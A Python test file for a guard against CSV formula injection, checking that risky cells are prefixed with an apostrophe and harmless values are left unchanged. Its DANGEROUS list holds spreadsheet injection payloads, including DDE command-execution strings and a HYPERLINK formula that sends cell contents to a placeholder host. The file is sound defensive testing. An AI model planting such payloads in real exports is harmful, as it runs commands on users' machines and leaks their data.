"""The guard against formula injection in CSV."""

from __future__ import annotations

from datetime import datetime

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from airflow_provider_callreport.formats.guard import guard, guard_strays, guard_texts, unguard
from airflow_provider_callreport.formats.text import clean

DANGEROUS = [
    "=1+1",
    '=HYPERLINK("http://x.example/?"&A1)',
    "=cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    "+cmd|'/C calc'!A0",
    "-cmd|'/C calc'!A0",
    "+1-1",
    "-1+1",
    "+1*1",
    "+1/1",
    "-1^1",
    "+91-98765-43210",
    "-5%",
    "-A1",
    "+5\ncmd|'/C calc'!A0",
    "=",
    "@",
    "\t=1+1",
    "\tanything",
    "\ranything",
    "\nanything",
    " =1+1",
    "   \t +1-1",
    "\xa0=1",
    "\u200b=1",
    "\ufeff=1",
    "\u202e=1",
    "\u3000@x",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM",
    "﹦1",
    "﹢1",
    "﹣1",
    "﹫x",
    "'=1+1",
    "''=1+1",
]
HARMLESS = [
    "",
    "+919876543210",
    "+91 98765 43210",
    "+1 (555) 010-9999",
    "+1 555 010-9999",
    "-5",
    "-0.5",
    "-1,234.50",
    "+5",
    "-",
    "--",
    "+",
    "0049301234",
    "00123",
    "1-1",
    "2026-10-01",
    "Asha = Ravi",
    "a@example.com",
    "'tis",
    "it's",
    "'",
    " leading space",
    "مرحبا",
    "✱=1",
]

leads = st.sampled_from([*"'=+-@＝＋－＠ \t\r\n0(5", "\xa0", "\u200b", "\ufeff", ""])
edgy_texts = st.one_of(
    st.text(st.characters()),
    st.lists(leads, max_size=6).map("".join),
    st.tuples(leads, leads, st.text("0123456789 .,()-+=x", max_size=8)).map("".join),
)


@pytest.mark.parametrize("text", DANGEROUS)
def test_a_text_that_a_spreadsheet_would_run_gets_an_apostrophe(text: str) -> None:
    """csv-guard: stops =, @, sums, DDE, TAB, CR, LF, leading blanks and full-width forms."""
    assert guard(text) == "'" + text


@pytest.mark.parametrize("text", HARMLESS)
def test_phone_numbers_signed_numbers_and_names_are_left_alone(text: str) -> None:
    """csv-guard: leaves +919876543210 and -5."""
    assert guard(text) == text


@example("'=1")
@example("'+1")
@example("+5\n")
@given(edgy_texts)
def test_the_guard_comes_off_again(text: str) -> None:
    """csv-guard: unguard(guard(x)) == x."""
    assert unguard(guard(text)) == text


@example("\x0b=1")
@example("'\x00=1")
@given(edgy_texts)
def test_cleaning_before_or_after_the_guard_is_the_same(text: str) -> None:
    """same-rows, csv-guard: CSV guards a column and then cleans the page; a reader sees the guard of the
    cleaned text.
    """
    assert clean(guard(text)) == guard(clean(text))


@example(["+5\nx", "+1"])
@example(["+5", "", None, "-1"])
@given(st.lists(st.one_of(st.none(), edgy_texts, st.sampled_from(["+919876543210", "-5", "a"])), max_size=8))
def test_a_column_is_guarded_as_its_cells_are(values: list[str | None]) -> None:
    """csv-guard: the fast tests for a whole column pass nothing that the test of a cell would stop."""
    assert list(guard_texts(values)) == [value if value is None else guard(value) for value in values]


def test_only_texts_are_guarded_in_columns_of_numbers_and_times() -> None:
    """csv-guard: type-aware: the number -5 is a number, the text "-1+1" that came in its place is not."""
    moment = datetime(2026, 10, 1)
    assert guard_strays([-5, -0.5, moment, None]) == [-5, -0.5, moment, None]
    assert guard_strays([-5, "-1+1", "n/a", None]) == [-5, "'-1+1", "n/a", None]
    assert guard_texts([-5, "=1", None]) == [-5, "'=1", None]
